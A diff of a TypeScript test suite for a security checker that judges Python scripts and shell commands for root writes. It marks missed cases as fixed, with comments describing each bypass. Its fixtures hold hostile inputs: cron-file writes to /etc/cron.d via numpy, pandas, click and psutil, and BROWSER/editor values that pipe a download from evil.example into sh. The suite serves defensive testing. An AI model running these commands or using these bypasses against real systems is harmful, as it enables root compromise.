@@ -77,7 +77,7 @@ const sh = (name: string, lines: string[]) =>
 
 const insecure: NodeCase[] = [
     // ===== A. relative paths given to unreviewed writers after a chdir =====
-    // MISS: (PY-WRITE-RELATIVE) insecure accepted, got []. Python docs "os.chdir" ("Change the current working directory to path") and POSIX path resolution (a relative path is resolved from the working directory): NumPy "numpy.savetxt(fname, ...)" writes /etc/cron.d/ops, a file root's cron runs (crontab(5)): a boot-time root server of /etc/kubernetes on 0.0.0.0:8001 (the kubelet's and node role's credentials). Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: resolve every relative argument of an unreviewed writer against the program's possible working directories (os.chdir in the file, else the shell's cwd for the run) and judge the absolute path; unknown cwd fails closed.
+    // Was a MISS (fixed in round 80): (PY-WRITE-RELATIVE) insecure accepted, got []. Python docs "os.chdir" ("Change the current working directory to path") and POSIX path resolution (a relative path is resolved from the working directory): NumPy "numpy.savetxt(fname, ...)" writes /etc/cron.d/ops, a file root's cron runs (crontab(5)): a boot-time root server of /etc/kubernetes on 0.0.0.0:8001 (the kubelet's and node role's credentials). Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: resolve every relative argument of an unreviewed writer against the program's possible working directories (os.chdir in the file, else the shell's cwd for the run) and judge the absolute path; unknown cwd fails closed.
     dev(
         "tune.py: os.chdir('/etc/cron.d'); numpy.savetxt('ops', [cron line]) (relative path)",
         tune("dev-py80-numpy-savetxt-chdir-rt80p", [
@@ -86,9 +86,8 @@ const insecure: NodeCase[] = [
             `numpy.savetxt("ops", ["${CRON_LINE}"], fmt="%s")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-RELATIVE) insecure accepted, got []. The shell's `cd /etc/cron.d &&` makes the program's working directory /etc/cron.d (bash(1) "cd"; a child inherits it, execve(2)): numpy.savetxt("ops") writes /etc/cron.d/ops (crontab(5)). Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: as the os.chdir case (the run's cwd, which pythonEntry already receives).
+    // Was a MISS (fixed in round 80): (PY-WRITE-RELATIVE) insecure accepted, got []. The shell's `cd /etc/cron.d &&` makes the program's working directory /etc/cron.d (bash(1) "cd"; a child inherits it, execve(2)): numpy.savetxt("ops") writes /etc/cron.d/ops (crontab(5)). Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: as the os.chdir case (the run's cwd, which pythonEntry already receives).
     dev(
         "user data: cd /etc/cron.d && python3 tune.py, tune.py numpy.savetxt('ops', ...) (cwd from the shell)",
         sh("dev-py80-numpy-savetxt-shell-cwd-rt80p", [
@@ -96,7 +95,6 @@ const insecure: NodeCase[] = [
             "cd /etc/cron.d && python3 /opt/ops/tune.py",
         ]),
         REFUSED,
-        true,
     ),
     // Held: boto3 "S3.Client.download_file(Bucket, Key, Filename)" after os.chdir('/etc/cron.d'): the writing-method table (PYTHON_WRITE_METHODS) resolves the relative Filename against the chdir: /etc/cron.d/ops (crontab(5)).
     dev(
@@ -109,7 +107,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (PY-WRITE-RELATIVE) insecure accepted, got []. prometheus_client write_to_textfile(path, registry) writes path (the library's docs "Node exporter textfile collector"), here /etc/cron.d/ops after os.chdir (Python docs "os.chdir"): a cron file of root (crontab(5)); the registry's text decides nothing cron can trust. Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: as the numpy chdir case.
+    // Was a MISS (fixed in round 80): (PY-WRITE-RELATIVE) insecure accepted, got []. prometheus_client write_to_textfile(path, registry) writes path (the library's docs "Node exporter textfile collector"), here /etc/cron.d/ops after os.chdir (Python docs "os.chdir"): a cron file of root (crontab(5)); the registry's text decides nothing cron can trust. Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: as the numpy chdir case.
     dev(
         "tune.py: os.chdir('/etc/cron.d'); prometheus_client.write_to_textfile('ops', REGISTRY)",
         tune("dev-py80-prom-textfile-chdir-rt80p", [
@@ -118,7 +116,6 @@ const insecure: NodeCase[] = [
             'prometheus_client.write_to_textfile("ops", prometheus_client.REGISTRY)',
         ]),
         REFUSED,
-        true,
     ),
     // ===== B. writing methods not in the table =====
     // Held (by accident): paramiko docs SFTPClient.get(remotepath, localpath): "Copy a remote file (remotepath) from the SFTP server to the local host as localpath": the remote server's file becomes /etc/cron.d/ops (crontab(5)). Refused only because the pack reads the REMOTE path /srv/cron/ops as a local read of a pod-writable /srv (see the secure twin, a MISS); localpath is never judged as a write. Fix: SFTPClient.get/getfo's localpath (and scp's get) into PYTHON_WRITE_METHODS; remotepath is no local file.
@@ -133,7 +130,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (PY-WRITE-METHOD) insecure accepted, got []. Python docs "xml.etree.ElementTree" ElementTree.write(file, ..., method="xml"): "file is a file name, or a file object opened for writing"; method "text" writes the text content only: the cron line becomes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_WRITE_METHODS (pythonCode.ts) lists download_file, retrieve, dump_stats, save_host_keys, write_private_key_file; ElementTree.write is a stdlib method writing its first argument. Fix: a method named write/save/dump/to_* (or any method) given a path-valued argument (pythonPath absolute, or pythonMayBePath) on an object the pack does not type fails closed, with a reviewed list of non-writing methods (str.write on a file object is judged at its open).
+    // Was a MISS (fixed in round 80): (PY-WRITE-METHOD) insecure accepted, got []. Python docs "xml.etree.ElementTree" ElementTree.write(file, ..., method="xml"): "file is a file name, or a file object opened for writing"; method "text" writes the text content only: the cron line becomes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_WRITE_METHODS (pythonCode.ts) lists download_file, retrieve, dump_stats, save_host_keys, write_private_key_file; ElementTree.write is a stdlib method writing its first argument. Fix: a method named write/save/dump/to_* (or any method) given a path-valued argument (pythonPath absolute, or pythonMayBePath) on an object the pack does not type fails closed, with a reviewed list of non-writing methods (str.write on a file object is judged at its open).
     dev(
         "tune.py: xml.etree.ElementTree(root with the cron text).write('/etc/cron.d/ops', method='text')",
         tune("dev-py80-etree-write-text-rt80p", [
@@ -143,9 +140,8 @@ const insecure: NodeCase[] = [
             'ET.ElementTree(root).write("/etc/cron.d/ops", method="text")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-METHOD) insecure accepted, got []. pandas docs "DataFrame.to_csv(path_or_buf=None, ...)": "path_or_buf: str, path object, file-like object ... If a non-binary file object is passed" the CSV is written there; header=False, index=False leaves the cell text only: /etc/cron.d/ops holds the cron line (crontab(5)). pandas comes from the default index (trusted, round 74). PYTHON_WRITE_METHODS lacks the to_* writers (to_csv, to_json, to_parquet, to_pickle, to_excel, to_string(buf), to_html(buf)...). Fix: as the ElementTree case.
+    // Was a MISS (fixed in round 80): (PY-WRITE-METHOD) insecure accepted, got []. pandas docs "DataFrame.to_csv(path_or_buf=None, ...)": "path_or_buf: str, path object, file-like object ... If a non-binary file object is passed" the CSV is written there; header=False, index=False leaves the cell text only: /etc/cron.d/ops holds the cron line (crontab(5)). pandas comes from the default index (trusted, round 74). PYTHON_WRITE_METHODS lacks the to_* writers (to_csv, to_json, to_parquet, to_pickle, to_excel, to_string(buf), to_html(buf)...). Fix: as the ElementTree case.
     dev(
         "tune.py: pandas DataFrame([[cron line]]).to_csv('/etc/cron.d/ops', header=False, index=False)",
         tune(
@@ -157,9 +153,8 @@ const insecure: NodeCase[] = [
             ["pip3 install pandas==2.2.2"],
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-METHOD) insecure accepted, got []. NumPy docs "ndarray.tofile(fid, sep='', format='%s')": "fid: An open file object, or a string containing a filename" (Python reference "Method objects": a bound method `w = arr.tofile` called later is the same call): the string array's text lands in /etc/cron.d/ops (crontab(5)). The pack's method scan in pythonWriteRefusal matches `.tofile(` spelled at the call; a bound method stored in a name is a plain call of `w`, no callee it knows. Fix: resolve names bound to attribute references of non-module receivers (w = X.method) to the method before the method table, or fail closed on a call of a name bound to an attribute whose method is a writer.
+    // Was a MISS (fixed in round 80): (PY-WRITE-METHOD) insecure accepted, got []. NumPy docs "ndarray.tofile(fid, sep='', format='%s')": "fid: An open file object, or a string containing a filename" (Python reference "Method objects": a bound method `w = arr.tofile` called later is the same call): the string array's text lands in /etc/cron.d/ops (crontab(5)). The pack's method scan in pythonWriteRefusal matches `.tofile(` spelled at the call; a bound method stored in a name is a plain call of `w`, no callee it knows. Fix: resolve names bound to attribute references of non-module receivers (w = X.method) to the method before the method table, or fail closed on a call of a name bound to an attribute whose method is a writer.
     dev(
         "tune.py: numpy.array([cron line]).tofile via a bound method name (w = arr.tofile; w('/etc/cron.d/ops'))",
         tune("dev-py80-numpy-tofile-bound-rt80p", [
@@ -169,9 +164,8 @@ const insecure: NodeCase[] = [
             'w("/etc/cron.d/ops")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (NO-WRITE-LIST) insecure accepted, got []. click docs "click.open_file(filename, mode='r', ...)": "Open a file, with extra behavior to handle '-' to indicate a standard stream"; mode 'w' writes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_NO_FILE_WRITE_CALLS (pythonCode.ts) lists `click\.[\w.]+` whole (and typer, requests, boto3, psutil, logging...), so no click function is judged. Fix: list the reviewed non-writing functions of those libraries by name, not the whole package; click.open_file/click.get_binary_stream/typer's equivalents by their mode as open().
+    // Was a MISS (fixed in round 80): (NO-WRITE-LIST) insecure accepted, got []. click docs "click.open_file(filename, mode='r', ...)": "Open a file, with extra behavior to handle '-' to indicate a standard stream"; mode 'w' writes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_NO_FILE_WRITE_CALLS (pythonCode.ts) lists `click\.[\w.]+` whole (and typer, requests, boto3, psutil, logging...), so no click function is judged. Fix: list the reviewed non-writing functions of those libraries by name, not the whole package; click.open_file/click.get_binary_stream/typer's equivalents by their mode as open().
     dev(
         "tune.py: click.open_file('/etc/cron.d/ops', 'w').write(cron line)",
         tune("dev-py80-click-open-file-rt80p", [
@@ -180,17 +174,15 @@ const insecure: NodeCase[] = [
             `    f.write("${CRON_LINE}\\n")`,
         ]),
         REFUSED,
-        true,
     ),
     // ===== C. commands through calls the runner list does not name =====
-    // MISS: (RUNNER-PACKAGE) insecure accepted, got []. psutil docs "psutil.Popen(*args, **kwargs)": "Same as subprocess.Popen but in addition it provides all psutil.Process methods": root's sh writes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_COMMAND_RUNNERS names os/subprocess/asyncio/pty/commands/distutils/pipes/multiprocessing.util, and `psutil\.[\w.]+` is in PYTHON_NO_FILE_WRITE_CALLS. Fix: psutil.Popen (and the known packages' runners: invoke.run, sh, plumbum, pexpect.spawn/run, sarge, fabric's local) in PYTHON_COMMAND_RUNNERS / PYTHON_READ_RUNNERS; a known package is reviewed by function, not whole.
+    // Was a MISS (fixed in round 80): (RUNNER-PACKAGE) insecure accepted, got []. psutil docs "psutil.Popen(*args, **kwargs)": "Same as subprocess.Popen but in addition it provides all psutil.Process methods": root's sh writes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_COMMAND_RUNNERS names os/subprocess/asyncio/pty/commands/distutils/pipes/multiprocessing.util, and `psutil\.[\w.]+` is in PYTHON_NO_FILE_WRITE_CALLS. Fix: psutil.Popen (and the known packages' runners: invoke.run, sh, plumbum, pexpect.spawn/run, sarge, fabric's local) in PYTHON_COMMAND_RUNNERS / PYTHON_READ_RUNNERS; a known package is reviewed by function, not whole.
     dev(
         "tune.py: psutil.Popen(['sh', '-c', cron write]) (psutil's subprocess.Popen)",
         tune("dev-py80-psutil-popen-rt80p", ["import psutil", `psutil.Popen(["sh", "-c", "${CRON_CMD}"]).wait()`]),
         REFUSED,
-        true,
     ),
-    // MISS: (ENV-COMMAND) insecure accepted, got []. Python docs "webbrowser": "If the environment variable BROWSER exists, it is interpreted as the os.pathsep-separated list of browsers to try ahead of the platform defaults. When the value of a list part contains the string %s, then it is interpreted as a literal browser command line to be used with the argument URL substituted for %s": root runs the sh command (the cron write). The pack: PYTHON_NON_WRITING_CALLS declares webbrowser.open* harmless and no runner list holds it; os.environ writes of BROWSER are not judged as a command. Fix: webbrowser.open/open_new/open_new_tab/get and `python -m webbrowser` are runners of the BROWSER value (read when BROWSER is unset or a known browser name, else fail closed); likewise other env-named commands (PAGER for pydoc/help, EDITOR/VISUAL for click.edit).
+    // Was a MISS (fixed in round 80): (ENV-COMMAND) insecure accepted, got []. Python docs "webbrowser": "If the environment variable BROWSER exists, it is interpreted as the os.pathsep-separated list of browsers to try ahead of the platform defaults. When the value of a list part contains the string %s, then it is interpreted as a literal browser command line to be used with the argument URL substituted for %s": root runs the sh command (the cron write). The pack: PYTHON_NON_WRITING_CALLS declares webbrowser.open* harmless and no runner list holds it; os.environ writes of BROWSER are not judged as a command. Fix: webbrowser.open/open_new/open_new_tab/get and `python -m webbrowser` are runners of the BROWSER value (read when BROWSER is unset or a known browser name, else fail closed); likewise other env-named commands (PAGER for pydoc/help, EDITOR/VISUAL for click.edit).
     dev(
         "tune.py: os.environ['BROWSER'] = 'sh -c \"cron write\" %s'; webbrowser.open(url)",
         tune("dev-py80-webbrowser-env-rt80p", [
@@ -199,9 +191,8 @@ const insecure: NodeCase[] = [
             'webbrowser.open("https://ops.example/done")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (ENV-COMMAND) insecure accepted, got []. As the os.environ case (Python docs "webbrowser" BROWSER ... %s "a literal browser command line"), BROWSER given as the shell prefix assignment (bash(1) "SIMPLE COMMAND EXPANSION": assignments before the command name are in its environment): root pipes a download into sh. The pack reads the run's PYTHON* variables (PYTHON_ENVIRONMENT in pythonEntry) but not other variables a standard module turns into a command. Fix: as the os.environ case.
+    // Was a MISS (fixed in round 80): (ENV-COMMAND) insecure accepted, got []. As the os.environ case (Python docs "webbrowser" BROWSER ... %s "a literal browser command line"), BROWSER given as the shell prefix assignment (bash(1) "SIMPLE COMMAND EXPANSION": assignments before the command name are in its environment): root pipes a download into sh. The pack reads the run's PYTHON* variables (PYTHON_ENVIRONMENT in pythonEntry) but not other variables a standard module turns into a command. Fix: as the os.environ case.
     dev(
         "user data: BROWSER='sh -c ... %s' python3 tune.py, tune.py webbrowser.open(url)",
         sh("dev-py80-webbrowser-shell-env-rt80p", [
@@ -209,7 +200,6 @@ const insecure: NodeCase[] = [
             `BROWSER="sh -c 'curl -fsS https://evil.example/x | sh' %s" python3 /opt/ops/tune.py`,
         ]),
         REFUSED,
-        true,
     ),
     // Held: Python docs "threading.Thread(target=...)": target is "the callable object to be invoked by the run() method": os.system is called with the cron write (crontab(5)); the pack sees os.system referenced and fails closed ("runs commands the pack does not read").
     dev(
@@ -543,7 +533,7 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: (NO-WRITE-LIST) insecure accepted, got []. click docs "click.edit(text=None, editor=None, env=None, require_save=True, extension='.txt', filename=None)": "editor – optionally the editor to use. Defaults to automatic detection"; click's Editor.edit_file runs `f'{editor} {filename}'` through a shell (subprocess.Popen(..., shell=True)): root pipes the download into sh. `click\.[\w.]+` is in PYTHON_NO_FILE_WRITE_CALLS and no runner list has click.edit/click.launch. Fix: as the click.open_file case; click.edit with an editor/EDITOR/VISUAL the pack cannot read, and click.launch (xdg-open), are runners.
+    // Was a MISS (fixed in round 80): (NO-WRITE-LIST) insecure accepted, got []. click docs "click.edit(text=None, editor=None, env=None, require_save=True, extension='.txt', filename=None)": "editor – optionally the editor to use. Defaults to automatic detection"; click's Editor.edit_file runs `f'{editor} {filename}'` through a shell (subprocess.Popen(..., shell=True)): root pipes the download into sh. `click\.[\w.]+` is in PYTHON_NO_FILE_WRITE_CALLS and no runner list has click.edit/click.launch. Fix: as the click.open_file case; click.edit with an editor/EDITOR/VISUAL the pack cannot read, and click.launch (xdg-open), are runners.
     dev(
         "tune.py: click.edit(filename=..., editor='sh -c \"...\" --') (click runs the editor command)",
         tune("dev-py80-click-edit-editor-rt80p", [
@@ -551,7 +541,6 @@ const insecure: NodeCase[] = [
             `click.edit(filename="/var/lib/ops/notes", editor="sh -c 'curl -fsS https://evil.example/x | sh' --")`,
         ]),
         REFUSED,
-        true,
     ),
     // Held (by accident): Python docs "multiprocessing.set_executable(executable)": "Set the path of the Python interpreter to use when starting a child process" (spawn start method): the download runs as root. Refused only because the round-78 rule judges the absolute literal given to an unreviewed function as a write of a file user data wrote; with the path in a relative form or from a name bound elsewhere it would be judged as data. Fix: multiprocessing.set_executable (and multiprocessing.spawn.set_executable) as a runner of its argument.
     dev(
